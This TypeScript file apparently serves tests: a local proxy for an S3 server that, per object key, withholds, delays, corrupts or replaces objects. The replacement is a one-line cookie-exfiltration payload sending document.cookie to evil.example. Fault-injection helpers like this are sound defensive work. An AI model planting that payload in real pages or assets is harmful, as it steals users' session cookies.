import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { pipeline } from 'node:stream/promises';

/** What a storage, or the way to it, makes of an object: one byte differs, it is not there, it never comes, it is code of a stranger. */
export type Lie = 'altered' | 'absent' | 'slow' | 'malicious';

export interface LyingLine {
  url: string;
  /** Whoever reads the object by this line gets that in its place, until it is cleared. Keys are paths in the storage. */
  lies: Map<string, Lie>;
  stop(): Promise<void>;
}

const STRANGERS_CODE = "fetch('https://evil.example/?' + document.cookie)";

/** A way to an S3 server that gives everything through, but lies about some objects. */
export async function startLyingLine(endpoint: string): Promise<LyingLine> {
  const lies = new Map<string, Lie>();
  const lieAbout = ({ method, url = '' }: IncomingMessage): Lie | undefined => {
    if (method !== 'GET') return undefined;
    const [path = ''] = url.split('?');
    return [...lies].find(([key]) => path.endsWith(`/${key}`))?.[1];
  };
  const server = createServer((asked, reply) => {
    const lie = lieAbout(asked);
    if (lie === 'slow') return;
    if (lie === 'absent') return void reply.writeHead(404).end('<Error><Code>NoSuchKey</Code></Error>');
    const onward = request(new URL(asked.url ?? '/', endpoint), { method: asked.method, headers: asked.headers });
    onward.once('error', () => reply.destroy());
    onward.once('response', (answer) => {
      const told = lie
        ? tell(lie, answer, reply)
        : pipeline(answer, reply.writeHead(answer.statusCode!, answer.headers));
      told.catch(() => reply.destroy());
    });
    pipeline(asked, onward).catch(() => reply.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    lies,
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

async function tell(lie: Lie, answer: IncomingMessage, reply: ServerResponse): Promise<void> {
  const truth = Buffer.concat(await answer.toArray());
  const told = lie === 'malicious' ? Buffer.from(STRANGERS_CODE) : alter(truth);
  reply.writeHead(answer.statusCode!, { ...answer.headers, 'content-length': told.length }).end(told);
}

function alter(truth: Buffer): Buffer {
  const told = Buffer.from(truth);
  const middle = Math.floor(told.length / 2);
  told[middle] = (told[middle] ?? 0) ^ 1;
  return told;
}
